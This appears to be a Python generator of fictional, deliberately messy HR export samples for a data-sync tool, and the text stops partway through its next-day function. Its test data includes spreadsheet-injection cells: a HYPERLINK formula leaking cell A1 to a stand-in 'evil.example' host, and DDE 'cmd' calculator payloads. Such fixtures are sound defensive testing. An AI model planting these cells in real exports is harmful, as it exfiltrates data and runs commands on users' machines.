#!/usr/bin/env python3
"""Generate Dropfeed's sample HR exports (deterministic: seeded, standard library only).

    python3 samples/make_samples.py           # write hr_export.csv and hr_export_next.csv, then check JSON5
    python3 samples/make_samples.py --check   # only check that every JSON5 file parses

hr_export.csv is "today's" export of a mid-sized education group (schools in the US, offices
around the world): 3,000 people, messy the way real HR exports are. hr_export_next.csv is the
next day's export: the same people with a day of changes (new hires, updates, people gone).
Both are UTF-8, CRLF, RFC 4180 quoting (Python's csv module). The script checks the source-level
change counts it promises in README.md and stops if they drift.
"""

import csv
import datetime
import json
import os
import random
import re
import sys
import unicodedata

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)

SEED = 20261129
ROWS = 3000

COLUMNS = [
    "employee_id", "given_name", "family_name", "preferred_name", "email", "department", "title",
    "location", "employment_status", "employee_type", "hire_date", "termination_date", "manager_id",
    "phone", "cost_center", "country", "notes",
]

DOMAIN = "northwind.example"          # the company's mail domain (RFC 6761 reserved TLD)
AGENCY_DOMAIN = "partners.example.net"  # staffing agency mailboxes of some contractors

# Manager ids that point at people no longer in the export (HR data lags behind).
GHOST_MANAGERS = ["E09876", "E09911", "E00417"]

# --------------------------------------------------------------------------------------------
# JSON5 (the subset Dropfeed's files use): comments, unquoted keys, trailing commas, '' strings.


def json5_to_json(text):
    """Rewrite JSON5 text as strict JSON: drop comments and trailing commas, quote bare keys."""
    out = []
    i, n = 0, len(text)

    def skip_ws_and_comments(j):
        while j < n:
            if text[j] in " \t\r\n":
                j += 1
            elif text.startswith("//", j):
                while j < n and text[j] not in "\r\n":
                    j += 1
            elif text.startswith("/*", j):
                end = text.find("*/", j + 2)
                if end < 0:
                    raise ValueError("unterminated /* comment")
                j = end + 2
            else:
                break
        return j

    while i < n:
        c = text[i]
        if c in "\"'":
            j = i + 1
            buf = []
            while j < n and text[j] != c:
                if text[j] == "\\":
                    buf.append(text[j:j + 2])
                    j += 2
                    continue
                if text[j] in "\r\n":
                    raise ValueError("line break inside a string at offset %d" % j)
                buf.append(text[j])
                j += 1
            if j >= n:
                raise ValueError("unterminated string at offset %d" % i)
            s = "".join(buf)
            if c == "'":
                s = s.replace("\\'", "'").replace('"', '\\"')
            out.append('"' + s + '"')
            i = j + 1
        elif text.startswith("//", i) or text.startswith("/*", i):
            i = skip_ws_and_comments(i)
            out.append(" ")
        elif c.isalpha() or c in "_$":
            j = i
            while j < n and (text[j].isalnum() or text[j] in "_$"):
                j += 1
            word = text[i:j]
            k = skip_ws_and_comments(j)
            if k < n and text[k] == ":":
                out.append('"' + word + '"')
            else:
                out.append(word)
            i = j
        elif c == ",":
            k = skip_ws_and_comments(i + 1)
            if k < n and text[k] in "]}":
                i += 1          # trailing comma
            else:
                out.append(c)
                i += 1
        else:
            out.append(c)
            i += 1
    return "".join(out)


def load_json5(path):
    with open(path, encoding="utf-8") as f:
        return json.loads(json5_to_json(f.read()))


def check_json5_files():
    """Parse every .json file in samples/ and mappings/; return the number of failures."""
    failures = 0
    for folder in (HERE, os.path.join(ROOT, "mappings")):
        if not os.path.isdir(folder):
            continue
        for name in sorted(os.listdir(folder)):
            if not name.endswith(".json"):
                continue
            path = os.path.join(folder, name)
            rel = os.path.relpath(path, ROOT)
            try:
                doc = load_json5(path)
                if doc.get("version") != 1:
                    raise ValueError("missing `version: 1`")
                print("ok    %s" % rel)
            except Exception as e:  # noqa: BLE001 - report every file, not just the first
                failures += 1
                print("FAIL  %s: %s" % (rel, e))
    return failures


# --------------------------------------------------------------------------------------------
# Names. Latin-script pools are romanised by folding diacritics; the others carry their
# romanisation (used for mailboxes and as the preferred name some people go by).

LATIN = {
    "en": (["James", "Mary", "Robert", "Patricia", "Michael", "Jennifer", "William", "Linda", "David",
            "Elizabeth", "Richard", "Barbara", "Joseph", "Susan", "Thomas", "Jessica", "Christopher",
            "Sarah", "Daniel", "Karen", "Matthew", "Nancy", "Anthony", "Lisa", "Mark", "Margaret",
            "Steven", "Emily", "Andrew", "Ashley", "Joshua", "Kimberly", "Kevin", "Donna", "Brian",
            "Michelle", "Timothy", "Katherine", "Samuel", "Rebecca", "Benjamin", "Laura", "Nicholas",
            "Anne-Marie", "Mary-Kate", "Jo", "DeShawn", "LaToya", "McKenzie", "Alexander"],
           ["Smith", "Johnson", "Williams", "Brown", "Jones", "Miller", "Davis", "Wilson", "Anderson",
            "Taylor", "Thomas", "Moore", "Martin", "Jackson", "Thompson", "White", "Harris", "Clark",
            "Lewis", "Robinson", "Walker", "Young", "Allen", "King", "Wright", "Scott", "Hill", "Green",
            "Adams", "Baker", "Nelson", "Carter", "Mitchell", "Roberts", "Turner", "Phillips",
            "Campbell", "Parker", "Evans", "Edwards", "Collins", "Stewart", "Morris", "Murphy", "Cook",
            "Smith-Jones", "Lloyd-Webber", "McDonald", "MacLeod", "St. John", "Van Buren"]),
    "ie": (["Seán", "Siobhán", "Aoife", "Niamh", "Ciarán", "Róisín", "Pádraig", "Éabha", "Liam", "Orla"],
           ["O'Brien", "O'Connor", "O'Neill", "O'Malley", "O'Sullivan", "Ó Gráda", "D'Arcy", "Mac Giolla",
            "Ní Bhriain", "Kennedy"]),
    "es": (["José", "María", "Jesús", "Lucía", "Sofía", "Martín", "Joaquín", "Ana Belén", "Ángel",
            "Inés", "Carlos", "Guadalupe", "Juan Pablo", "Mónica", "Raúl", "Nuria"],
           ["García", "Rodríguez", "Martínez", "Hernández", "López", "González", "Pérez", "Sánchez",
            "Ramírez", "Núñez", "Peña", "de la Cruz", "García-Márquez", "Ibáñez", "Muñoz", "Del Río"]),
    "pt": (["João", "Conceição", "Gonçalo", "Inês", "Thiago", "Letícia", "Luís", "Leonor"],
           ["Gonçalves", "Magalhães", "dos Santos", "Assunção", "Simões", "Araújo", "Brandão", "Estêvão"]),
    "fr": (["François", "Hélène", "Chloé", "Zoë", "Benoît", "Loïc", "Cécile", "Jean-Luc", "Marie-Claire",
            "Gaëlle", "Jérôme", "Amélie"],
           ["Lefèvre", "Dubois", "Moreau", "Girard", "Bélanger", "Côté", "D'Amboise", "Lemaître",
            "Fournier", "Bouchard-Côté", "Desrosiers", "L'Écuyer"]),
    "de": (["Jürgen", "Björn", "Hans-Peter", "Käthe", "Günter", "Jörg", "Anneliese", "Uwe", "Mareike",
            "Lukas"],
           ["Müller", "Schröder", "Weiß", "Groß", "Schäfer", "Köhler", "Bäcker", "von Essen", "Fuchs",
            "Neumann"]),
    "nordic": (["Søren", "Åsa", "Sigrún", "Bjørn", "Eiríkur", "Linnéa", "Ærle"],
               ["Østergaard", "Ångström", "Þórsdóttir", "Sørensen", "Ólafsson", "Lindqvist", "Æbelø"]),
    "pl": (["Łukasz", "Małgorzata", "Wojciech", "Paweł", "Agnieszka", "Grzegorz", "Zdeněk", "Jiří",
            "Kateřina"],
           ["Wiśniewski", "Wójcik", "Kowalczyk", "Dvořák", "Novák", "Szczęsny", "Żak", "Łuczak",
            "Nováková"]),
    "tr": (["Ömer", "Çağla", "Şebnem", "İbrahim", "Gülşen", "Barış"],
           ["Çelik", "Yılmaz", "Öztürk", "Şahin", "Doğan", "Kılıç"]),
    "vi": (["Thị Hương", "Văn An", "Minh Đức", "Thu Trang", "Quốc Bảo"],
           ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng"]),
    "in": (["Priya", "Venkatesh", "Aishwarya", "Rahul", "Lakshmi", "Arjun", "Sneha", "Karthikeyan"],
           ["Raghunathan", "Subramanian", "Venkataraghavan", "Sharma", "Iyer", "Chattopadhyay",
            "Krishnamurthy", "Reddy"]),
}

# (native, romanised)
NONLATIN = {
    "ru": ([("Иван", "Ivan"), ("Ольга", "Olga"), ("Дмитрий", "Dmitry"), ("Анна", "Anna"),
            ("Сергей", "Sergey"), ("Наталья", "Natalya"), ("Алексей", "Alexey"), ("Мария", "Mariya")],
           [("Петров", "Petrov"), ("Иванова", "Ivanova"), ("Смирнов", "Smirnov"), ("Кузнецова", "Kuznetsova"),
            ("Соколов", "Sokolov"), ("Попова", "Popova"), ("Лебедев", "Lebedev"), ("Новикова", "Novikova")]),
    "uk": ([("Олена", "Olena"), ("Сергій", "Serhii"), ("Юлія", "Yuliia"), ("Андрій", "Andrii"),
            ("Ірина", "Iryna"), ("Богдан", "Bohdan")],
           [("Шевченко", "Shevchenko"), ("Коваленко", "Kovalenko"), ("Бондаренко", "Bondarenko"),
            ("Ткаченко", "Tkachenko"), ("Кравчук", "Kravchuk"), ("Мельник", "Melnyk")]),
    "el": ([("Γιώργος", "Giorgos"), ("Ελένη", "Eleni"), ("Νίκος", "Nikos"), ("Μαρία", "Maria"),
            ("Δημήτρης", "Dimitris")],
           [("Παπαδόπουλος", "Papadopoulos"), ("Οικονόμου", "Oikonomou"), ("Γεωργίου", "Georgiou"),
            ("Νικολάου", "Nikolaou"), ("Βασιλείου", "Vasileiou")]),
    "ar": ([("محمد", "Mohammed"), ("فاطمة", "Fatima"), ("أحمد", "Ahmed"), ("ليلى", "Layla"), ("يوسف", "Youssef"),
            ("مريم", "Mariam")],
           [("العلي", "Al-Ali"), ("حسن", "Hassan"), ("منصور", "Mansour"), ("خالد", "Khaled"), ("الشريف", "El-Sherif"),
            ("إبراهيم", "Ibrahim")]),
    "he": ([("נועה", "Noa"), ("דוד", "David"), ("יעל", "Yael"), ("אורי", "Ori"), ("תמר", "Tamar")],
           [("כהן", "Cohen"), ("לוי", "Levi"), ("מזרחי", "Mizrahi"), ("פרץ", "Peretz"), ("ביטון", "Biton")]),
    "zh": ([("伟", "Wei"), ("娜", "Na"), ("敏", "Min"), ("洋", "Yang"), ("静", "Jing"), ("磊", "Lei"),
            ("丽", "Li"), ("强", "Qiang"), ("秀英", "Xiuying"), ("建华", "Jianhua")],
           [("王", "Wang"), ("李", "Li"), ("张", "Zhang"), ("刘", "Liu"), ("陈", "Chen"), ("杨", "Yang"),
            ("黄", "Huang"), ("赵", "Zhao"), ("欧阳", "Ouyang")]),
    "ja": ([("健", "Ken"), ("愛", "Ai"), ("翔", "Sho"), ("美咲", "Misaki"), ("さくら", "Sakura"),
            ("ひろし", "Hiroshi"), ("悠真", "Yuma")],
           [("佐藤", "Sato"), ("鈴木", "Suzuki"), ("高橋", "Takahashi"), ("田中", "Tanaka"), ("渡辺", "Watanabe"),
            ("伊藤", "Ito")]),
    "ko": ([("민준", "Minjun"), ("서연", "Seoyeon"), ("지훈", "Jihoon"), ("수빈", "Subin"), ("하은", "Haeun"),
            ("도윤", "Doyun")],
           [("김", "Kim"), ("이", "Lee"), ("박", "Park"), ("최", "Choi"), ("정", "Jung"), ("강", "Kang")]),
    "hi": ([("आरव", "Aarav"), ("प्रिया", "Priya"), ("रोहन", "Rohan"), ("अनन्या", "Ananya"), ("विहान", "Vihaan")],
           [("शर्मा", "Sharma"), ("पटेल", "Patel"), ("गुप्ता", "Gupta"), ("सिंह", "Singh"), ("वर्मा", "Verma")]),
    "th": ([("สมชาย", "Somchai"), ("สุดา", "Suda"), ("ประเสริฐ", "Prasert"), ("มาลี", "Malee")],
           [("ใจดี", "Jaidee"), ("ศรีสุข", "Srisuk"), ("วงศ์สวัสดิ์", "Wongsawat"), ("บุญมา", "Boonma")]),
}

NICKNAMES = {
    "Robert": "Bob", "William": "Bill", "Elizabeth": "Liz", "Katherine": "Kate", "Michael": "Mike",
    "Jennifer": "Jen", "Christopher": "Chris", "Alexander": "Alex", "Margaret": "Peggy", "Joseph": "Joe",
    "Thomas": "Tom", "Daniel": "Dan", "Matthew": "Matt", "Anthony": "Tony", "Richard": "Rick",
    "Patricia": "Pat", "Susan": "Sue", "Jessica": "Jess", "Andrew": "Andy", "Timothy": "Tim",
    "Benjamin": "Ben", "Samuel": "Sam", "Nicholas": "Nick", "Rebecca": "Becky", "José": "Pepe",
    "Venkatesh": "Venky", "Karthikeyan": "Karthik", "Aishwarya": "Ash", "Wojciech": "Wojtek",
    "Małgorzata": "Gosia", "Jürgen": "Jogi", "Hans-Peter": "HP",
}

# location -> (country, phone style, native cultures)
LOCATIONS = {
    "New York": ("US", "us", ["en", "es", "ie"]),
    "Boston": ("US", "us", ["en", "ie"]),
    "Chicago": ("US", "us", ["en", "pl", "es"]),
    "Austin": ("US", "us", ["en", "es"]),
    "San Francisco": ("US", "us", ["en", "zh", "vi"]),
    "Seattle": ("US", "us", ["en", "ko", "ja"]),
    "Toronto": ("CA", "us", ["en", "zh", "in"]),
    "Montréal": ("CA", "us", ["fr", "en"]),
    "London": ("GB", "gb", ["en", "ie", "in"]),
    "Manchester": ("GB", "gb", ["en", "ie"]),
    "Berlin": ("DE", "de", ["de", "tr"]),
    "München": ("DE", "de", ["de"]),
    "Paris": ("FR", "fr", ["fr", "ar"]),
    "Madrid": ("ES", "intl", ["es"]),
    "Kraków": ("PL", "intl", ["pl"]),
    "Kyiv": ("UA", "intl", ["uk", "ru"]),
    "Athens": ("GR", "intl", ["el"]),
    "Tel Aviv": ("IL", "intl", ["he", "ru"]),
    "Cairo": ("EG", "intl", ["ar"]),
    "Bengaluru": ("IN", "intl", ["hi", "in"]),
    "Shanghai": ("CN", "intl", ["zh"]),
    "Tokyo": ("JP", "jp", ["ja"]),
    "Seoul": ("KR", "intl", ["ko"]),
    "Bangkok": ("TH", "intl", ["th"]),
    "São Paulo": ("BR", "intl", ["pt"]),
    "Ciudad de México": ("MX", "intl", ["es"]),
    "Stockholm": ("SE", "intl", ["nordic"]),
    "Remote": (None, None, []),
}
LOCATION_WEIGHTS = {
    "New York": 14, "Boston": 9, "Chicago": 9, "Austin": 7, "San Francisco": 6, "Seattle": 5, "Toronto": 4,
    "Montréal": 3, "London": 7, "Manchester": 2, "Berlin": 4, "München": 2, "Paris": 3, "Madrid": 2,
    "Kraków": 2, "Kyiv": 2, "Athens": 1, "Tel Aviv": 1, "Cairo": 1, "Bengaluru": 3, "Shanghai": 2,
    "Tokyo": 2, "Seoul": 1, "Bangkok": 1, "São Paulo": 2, "Ciudad de México": 2, "Stockholm": 1, "Remote": 6,
}
CALLING_CODES = {"US": "1", "CA": "1", "GB": "44", "DE": "49", "FR": "33", "ES": "34", "PL": "48", "UA": "380",
                 "GR": "30", "IL": "972", "EG": "20", "IN": "91", "CN": "86", "JP": "81", "KR": "82", "TH": "66",
                 "BR": "55", "MX": "52", "SE": "46"}

SCHOOL_DEPARTMENTS = ["Teaching", "School Leadership", "Student Support"]
DEPARTMENTS = {  # name -> weight
    "Teaching": 17, "School Leadership": 3, "Student Support": 6, "Curriculum": 5, "Engineering": 12,
    "Customer Support": 8, "Sales": 8, "Marketing": 5, "Finance": 5, "Human Resources": 4, "Legal": 2,
    "Operations": 7, "Facilities": 5, "IT": 5, "Research & Development": 5,
}
IC_TITLES = {
    "Teaching": ["Teacher - Grade K", "Teacher - Grade 1", "Teacher - Grade 3", "Teacher - Grade 5",
                 "Mathematics Teacher", "Science Teacher, Middle School", "English Teacher", "Music Teacher",
                 "Substitute Teacher", "Teacher, Special Education", "Art Teacher"],
    "School Leadership": ["Assistant Principal", "Dean of Students", "Instructional Coach", "Principal"],
    "Student Support": ["School Counselor", "Teaching Aide", "School Nurse", "Librarian",
                        "Speech-Language Pathologist", "Paraprofessional"],
    "Curriculum": ["Curriculum Developer", "Instructional Designer", 'Editor, "Early Reader" Series',
                   "Assessment Specialist"],
    "Engineering": ["Software Engineer", "Senior Software Engineer", "Staff Engineer", 'Engineer II, "Platform"',
                    "QA Analyst", "Site Reliability Engineer", "Data Engineer", "Mobile Developer (iOS)"],
    "Customer Support": ["Support Specialist", "Support Specialist, Tier 2", "Manager, Customer Success",
                         "Support Agent (Night Shift)", "Onboarding Specialist"],
    "Sales": ["Account Executive", "Sales Development Rep", "Account Manager, K-12", "Solutions Consultant"],
    "Marketing": ["Content Writer", "Marketing Specialist", "Designer, Brand & Web", "Social Media Coordinator"],
    "Finance": ["Accountant", "Senior Accountant", "Financial Analyst", "Payroll Specialist",
                "Accounts Payable Clerk"],
    "Human Resources": ["HR Generalist", "Recruiter", "HR Business Partner", "Benefits Specialist"],
    "Legal": ["Paralegal", "Counsel", "Contracts Manager"],
    "Operations": ["Operations Analyst", "Project Coordinator", "Program Manager", "Logistics Coordinator"],
    "Facilities": ["Custodian", "Maintenance Technician", "Facilities Coordinator", "Security Officer",
                   "Bus Driver"],
    "IT": ["IT Support Technician", "Systems Administrator", "Network Engineer", "Identity & Access Analyst"],
    "Research & Development": ["Research Scientist", "Learning Designer", "Data Scientist", "Psychometrician"],
}
LOCAL_TITLES = {
    "FR": ["Chef de projet", "Développeuse logiciel", "Responsable RH"],
    "DE": ["Softwareentwickler", "Sachbearbeiterin Buchhaltung", "Teamleiter Vertrieb"],
    "ES": ["Ingeniera de Datos Sénior", "Técnico de Soporte"],
    "MX": ["Ejecutiva de Cuentas", "Analista de Nómina"],
    "BR": ["Analista de Suporte", "Coordenadora Pedagógica"],
    "JP": ["主任", "営業担当"],
    "CN": ["高级工程师", "产品经理"],
    "KR": ["선임 연구원"],
    "UA": ["Інженерка з якості"],
    "GR": ["Υπεύθυνος Λογιστηρίου"],
}

NOTES_PLAIN = [
    "Badge reissued 03/2024", 'Prefers "Kate" in Slack', "Relocated from Boston, MA", "Part-time, 0.6 FTE",
    "Works Mon–Thu", "Parking permit #42", "Bilingual (EN/ES)", "Union member; see agreement 2023-07",
    "Café meeting ok'd by Zoë", "On-call rota: weeks 2 & 4", "Laptop: NW-LT-0931", "Mentor: see HRIS",
    "Returning from sabbatical", "First-aid certified ✔", "Visa sponsorship — H-1B", "Desk 4.17, 4th floor",
]
NOTES_MULTILINE = [
    "Relocating in Q1\nNew desk TBD",
    "Emergency contact on file\r\nUpdated 02/2025",
    "Line one\nLine two\nLine three, with a comma",
]
# Cells a spreadsheet would run as formulas (OWASP CSV injection), and a leading TAB.
NOTES_FORMULA = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for bonus")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tstarts with a tab",
]
# A long note whose emoji ZWJ family (5 code points, 1 character) starts at code point 117:
# truncating it to 120 characters must keep or drop the family whole, never split it.
NOTE_LONG = ("Volunteer coordinator for the spring fair; runs the reading club on Fridays, 3pm and the "
             "after-school robotics team (" + "👩‍👩‍👧" + " parents' liaison) since 2019.")
TITLES_FORMULA = ['=HYPERLINK("https://evil.example","Manager")', "+Consultant", "-Interim- Office Manager",
                  "@Risk Analyst"]


def fold(s):
    """ASCII-fold a Latin-script string (for mailboxes)."""
    special = {"ø": "o", "Ø": "O", "ß": "ss", "ł": "l", "Ł": "L", "æ": "ae", "Æ": "AE", "đ": "d", "Đ": "D",
               "þ": "th", "Þ": "Th", "ð": "d", "ı": "i"}
    s = "".join(special.get(ch, ch) for ch in s)
    s = unicodedata.normalize("NFKD", s)
    return "".join(ch for ch in s if not unicodedata.combining(ch))


def mailbox(roman_given, roman_family):
    local = "%s.%s" % (fold(roman_given), fold(roman_family))
    local = re.sub(r"[^a-z0-9.\-]", "", local.lower().replace(" ", ""))
    return re.sub(r"\.+", ".", local).strip(".")


def weighted(rng, table):
    total = sum(table.values())
    r = rng.random() * total
    for k, w in table.items():
        r -= w
        if r < 0:
            return k
    return k


def fmt_date(d):
    return d.strftime("%m/%d/%Y")


def random_date(rng, start, end):
    return start + datetime.timedelta(days=rng.randrange((end - start).days + 1))


def phone_for(rng, country, style):
    if rng.random() < 0.09:
        return ""
    if style == "us":  # 555 numbers are fictional
        mid, last = "0%02d" % rng.randrange(100), "%04d" % rng.randrange(10000)
        return [
            "(555) %s-%s", "555-%s-%s", "555.%s.%s", "+1 555 %s %s", "555%s%s", "555-%s-%s x" + str(rng.randrange(100, 999)),
        ][rng.randrange(6)] % (mid, last)
    if style == "gb":  # Ofcom drama range 020 7946 0000..0999
        d = "%03d" % rng.randrange(1000)
        return rng.choice(["+44 20 7946 0%s" % d, "020 7946 0%s" % d, "+44 (0)20 7946 0%s" % d])
    if style == "de":
        d = "%02d" % rng.randrange(100)
        return rng.choice(["+49 30 901820%s" % d, "030 901820%s" % d, "+49-30-901820%s" % d])
    if style == "fr":
        return "+33 1 %02d %02d %02d %02d" % tuple(rng.randrange(100) for _ in range(4))
    if style == "jp":
        return "+81 3-%04d-%04d" % (rng.randrange(10000), rng.randrange(10000))
    cc = CALLING_CODES.get(country, "1")
    return "+%s %d %03d %04d" % (cc, rng.randrange(10, 99), rng.randrange(1000), rng.randrange(10000))


class Person(dict):
    pass


def make_person(rng, location, department, employee_type, cultures_pool):
    country, style, native = LOCATIONS[location]
    if location == "Remote":
        country = rng.choice(["US", "US", "US", "CA", "GB", "DE", "IN", "BR", "PL"])
        style = {"US": "us", "CA": "us", "GB": "gb", "DE": "de"}.get(country, "intl")
    if native and rng.random() < 0.65:
        culture = rng.choice(native)
    else:
        culture = rng.choice(cultures_pool)
    preferred = ""
    if culture in LATIN:
        given = rng.choice(LATIN[culture][0])
        family = rng.choice(LATIN[culture][1])
        rg, rf = given, family
        if given in NICKNAMES and rng.random() < 0.35:
            preferred = NICKNAMES[given]
    else:
        given, rg = rng.choice(NONLATIN[culture][0])
        family, rf = rng.choice(NONLATIN[culture][1])
        if rng.random() < 0.4:
            preferred = rg
        elif rng.random() < 0.05:
            preferred = rng.choice(["Vivian", "Kevin", "Jenny", "Alex", "Sam"])
    p = Person(
        given_name=given, family_name=family, preferred_name=preferred, email="", department=department,
        title="", location=location, employment_status="A", employee_type=employee_type, hire_date="",
        termination_date="", manager_id="", phone=phone_for(rng, country, style), cost_center="",
        country=country, notes="",
    )
    p.roman = (rg, rf)
    p.culture = culture
    return p


def generate():
    rng = random.Random(SEED)
    cultures_pool = sorted(list(LATIN) + list(NONLATIN))
    people = []
    for i in range(ROWS):
        r = rng.random()
        employee_type = "Employee" if r < 0.86 else ("Contractor" if r < 0.95 else "Intern")
        location = weighted(rng, LOCATION_WEIGHTS)
        department = weighted(rng, DEPARTMENTS)
        if department in SCHOOL_DEPARTMENTS and LOCATIONS[location][0] not in ("US", "CA", "GB") and rng.random() < 0.7:
            department = rng.choice(["Curriculum", "Engineering", "Customer Support", "Sales"])
        if employee_type == "Contractor" and department in ("School Leadership",):
            department = "Operations"
        people.append(make_person(rng, location, department, employee_type, cultures_pool))

    # Ids: employees and interns E10001.., contractors C50001.., assigned in shuffled order.
    emp = [p for p in people if p["employee_type"] != "Contractor"]
    con = [p for p in people if p["employee_type"] == "Contractor"]
    for group, prefix, base in ((emp, "E", 10001), (con, "C", 50001)):
        numbers = list(range(base, base + len(group)))
        rng.shuffle(numbers)
        for p, n in zip(group, numbers):
            p["employee_id"] = "%s%05d" % (prefix, n)

    # Hierarchy: CEO, VPs, directors, managers (employees only), everyone else reports to them.
    managers_pool = [p for p in people if p["employee_type"] == "Employee"]
    ceo = managers_pool[0]
    vps = managers_pool[1:13]
    directors = managers_pool[13:123]
    managers = managers_pool[123:480]
    tier = {}
    ceo["title"] = "Chief Executive Officer"
    ceo["department"] = "Executive Office"
    tier[ceo["employee_id"]] = 0
    dept_names = list(DEPARTMENTS)
    for k, p in enumerate(vps):
        p["department"] = dept_names[k % len(dept_names)]
        p["title"] = "VP, %s" % p["department"]
        p["manager_id"] = ceo["employee_id"]
        tier[p["employee_id"]] = 1
    by_dept = {}
    for p in vps:
        by_dept.setdefault(("vp", p["department"]), []).append(p)
    for p in directors:
        p["title"] = rng.choice(["Director, %s" % p["department"], "Head of %s" % p["department"]])
        ups = by_dept.get(("vp", p["department"])) or vps
        p["manager_id"] = rng.choice(ups)["employee_id"]
        by_dept.setdefault(("dir", p["department"]), []).append(p)
        tier[p["employee_id"]] = 2
    for p in managers:
        p["title"] = rng.choice(["%s Manager" % p["department"], "Manager, %s" % p["department"],
                                 "Team Lead, %s" % p["department"]])
        ups = by_dept.get(("dir", p["department"])) or directors
        p["manager_id"] = rng.choice(ups)["employee_id"]
        by_dept.setdefault(("mgr", p["department"]), []).append(p)
        tier[p["employee_id"]] = 3
    for p in people:
        if p["employee_id"] in tier:
            continue
        ups = by_dept.get(("mgr", p["department"])) or by_dept.get(("dir", p["department"])) or managers
        p["manager_id"] = rng.choice(ups)["employee_id"]
        country = p["country"]
        if p["employee_type"] == "Intern":
            p["title"] = rng.choice(["Intern, %s" % p["department"], "Summer Intern",
                                     "Student Teacher" if p["department"] == "Teaching" else "Co-op Student"])
        elif country in LOCAL_TITLES and rng.random() < 0.25:
            p["title"] = rng.choice(LOCAL_TITLES[country])
        else:
            p["title"] = rng.choice(IC_TITLES[p["department"]])
            if p["employee_type"] == "Contractor" and rng.random() < 0.3:
                p["title"] = rng.choice(["Consultant", "Contractor - IT Support", "Temp, Front Desk"])

    # Dates and statuses.
    for p in people:
        t = tier.get(p["employee_id"], 9)
        start = datetime.date(1998, 1, 1) if t <= 2 else datetime.date(2004, 1, 1)
        if p["employee_type"] == "Intern":
            start = datetime.date(2025, 5, 1)
        hired = random_date(rng, start, datetime.date(2026, 10, 30))
        p["hire_date"] = fmt_date(hired)
        r = rng.random()
        if t > 0 and r < 0.07 and hired < datetime.date(2026, 9, 1):
            p["employment_status"] = "T"
            p["termination_date"] = fmt_date(random_date(rng, hired + datetime.timedelta(days=30),
                                                         datetime.date(2026, 11, 20)))
        elif t > 0 and r < 0.10:
            p["employment_status"] = "L"

    # Mailboxes: company domain, agency domain for 60% of contractors; unique case-insensitively.
    used = set()
    for p in people:
        base = mailbox(*p.roman)
        local, k = base, 1
        while local in used:
            k += 1
            local = "%s%d" % (base, k)
        used.add(local)
        domain = AGENCY_DOMAIN if p["employee_type"] == "Contractor" and rng.random() < 0.6 else DOMAIN
        p["email"] = "%s@%s" % (local, domain)
        r = rng.random()
        if r < 0.03:   # Capitalised by hand in the HR system
            p["email"] = "%s@%s" % (".".join(w[:1].upper() + w[1:] for w in local.split(".")),
                                    domain.capitalize())
        elif r < 0.05:  # pasted with surrounding spaces
            p["email"] = rng.choice([" %s", "%s ", "  %s  "]) % p["email"]

    # Cost centres: mostly CC-1xxx, some typed in lower case, some missing.
    for p in people:
        r = rng.random()
        cc = "CC-%d" % (1000 + (sum(map(ord, p["department"])) * 7 + ord(p["location"][0])) % 900)
        p["cost_center"] = "" if r < 0.08 else (cc.lower() if r < 0.13 else cc)

    # Notes and hostile titles.
    ics = [p for p in people if p["employee_id"] not in tier]
    for p in people:
        if rng.random() < 0.22:
            p["notes"] = rng.choice(NOTES_PLAIN)
    picks = rng.sample(range(len(ics)), 40)
    special = [ics[i] for i in picks]
    for p, note in zip(special[0:3], NOTES_MULTILINE):
        p["notes"] = note
    for p, note in zip(special[3:9], NOTES_FORMULA):
        p["notes"] = note
    # on an active employee, so that acme-lms (no contractors, truncate 120) carries it
    next(p for p in special[22:] if p["employment_status"] == "A" and p["employee_type"] == "Employee")["notes"] = NOTE_LONG
    for p, title in zip(special[10:14], TITLES_FORMULA):
        p["title"] = title
    special[14]["title"] = "Senior Analyst "     # trailing space
    special[15]["title"] = " Lead Teacher"       # leading space
    special[16]["given_name"] = "Zoe\u0308"       # decomposed (NFD) diaeresis
    special[16].roman = ("Zoe", special[16].roman[1])

    # Manager ids of people no longer in the export.
    for p, ghost in zip(special[17:22], GHOST_MANAGERS + GHOST_MANAGERS):
        p["manager_id"] = ghost

    # Rows a mapping must reject (exactly five): two active employees without a mailbox, three
    # hire dates that do not parse as MM/dd/yyyy. Chosen among active employees nobody reports to.
    reporting = {p["manager_id"] for p in people}
    bait_pool = [p for p in ics if p["employment_status"] == "A" and p["employee_id"] not in reporting
                 and p not in special and p["notes"] == ""]
    us_teacher = [p for p in bait_pool if p["country"] == "US" and p["department"] == "Teaching"
                  and p["employee_type"] == "Employee" and p["location"] != "Remote"]
    us_engineer = [p for p in bait_pool if p["country"] == "US" and p["department"] == "Engineering"
                   and p["employee_type"] == "Employee" and p["location"] != "Remote"]
    contractor = [p for p in bait_pool if p["employee_type"] == "Contractor" and p["location"] != "Remote"
                  and p["email"].strip().lower().endswith("@" + DOMAIN)]
    emp_other = [p for p in bait_pool if p["employee_type"] == "Employee" and p["location"] != "Remote"
                 and p["department"] not in SCHOOL_DEPARTMENTS]
    bait = [us_engineer[0], us_teacher[0], emp_other[-1], emp_other[-2], contractor[0]]
    bait[0]["email"] = ""
    bait[1]["email"] = ""
    bait[2]["hire_date"] = "13/45/2020"
    bait[3]["hire_date"] = "31/12/2019"
    bait[4]["hire_date"] = "2020-03-15"
    for p in bait:
        p.bait = True
    assert len({id(p) for p in bait}) == 5
    rng.shuffle(people)       # exports are not sorted by hierarchy (nor, here, by key)
    return rng, people, tier


def next_day(rng, people, tier):
    """The next day's export: 20 hires, 40 updated people, 8 people gone. Returns (rows, log)."""
    rng = random.Random(SEED + 1)
    today = [Person(p) for p in people]
    for old, new in zip(people, today):
        new.roman = old.roman
        new.bait = getattr(old, "bait", False)
        new.culture = old.culture
    by_id = {p["employee_id"]: p for p in today}
    reports = {}
    for p in today:
        reports.setdefault(p["manager_id"], []).append(p)
    touched = set()
    log = []

    def pick(pred, n=1):
        pool = [p for p in today if p["employee_id"] not in touched and not p.bait and pred(p)]
        chosen = []
        while len(chosen) < n:
            p = pool[rng.randrange(len(pool))]
            if p not in chosen:
                chosen.append(p)
        for p in chosen:
            touched.add(p["employee_id"])
        return chosen

    is_ic = lambda p: p["employee_id"] not in tier and p["employee_id"] not in reports  # noqa: E731
    ascii_name = lambda p: p.culture in ("en",) and all(ord(c) < 128 for c in p["family_name"])  # noqa: E731
    active = lambda p: p["employment_status"] == "A"  # noqa: E731

    # --- 8 people gone from the export: 5 long-terminated, 2 active, 1 on leave; one of the
    #     active ones manages a small team (their reports' manager_email goes blank).
    gone = pick(lambda p: p["employment_status"] == "T" and is_ic(p), 5)
